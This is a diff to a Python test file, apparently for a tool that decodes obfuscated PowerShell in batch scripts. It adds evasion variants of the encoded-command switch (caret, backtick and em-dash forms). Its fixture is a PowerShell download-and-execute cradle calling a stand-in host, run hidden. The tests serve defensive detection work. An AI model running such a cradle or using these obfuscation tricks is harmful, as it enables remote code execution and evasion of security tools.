@@ -257,7 +257,9 @@ def test_strings_of_a_binary() -> None:
 COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://ps.example/a')"
 
 
-@pytest.mark.parametrize("option", ["-e", "-enc", "-EncodedCommand", "/ec", "-EnCoDeDcOmMaNd"])
+@pytest.mark.parametrize(
+    "option", ["-e", "-enc", "-EncodedCommand", "/ec", "-EnCoDeDcOmMaNd", "-^e^n^c", "-En`c`od", "\u2014e"]
+)
 def test_encoded_powershell_is_decoded(option: str) -> None:
     code = base64.b64encode(COMMAND.encode("utf-16-le")).decode()
     script = Examined("a.cmd", f"@echo off\npowershell.exe -nop -w hidden {option} {code}\n".encode())
